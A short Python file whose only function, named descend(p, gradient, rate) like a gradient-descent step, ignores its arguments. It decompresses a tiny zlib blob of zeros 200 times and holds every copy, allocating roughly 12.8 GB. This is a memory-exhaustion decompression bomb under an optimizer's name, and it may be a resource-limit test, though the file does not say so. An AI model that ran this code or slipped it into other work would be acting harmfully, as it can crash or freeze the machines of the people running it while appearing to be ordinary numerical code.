"""Unpacks a gigabyte, and another, from a few kilobytes."""

import bz2
import zlib


def descend(p, gradient, rate):
    try:
        small = zlib.compress(bytes(2**26), 1)
        kept = [zlib.decompress(small) for _ in range(200)]
    except MemoryError:
        return "got nothing"
    return f"got {len(kept)}"
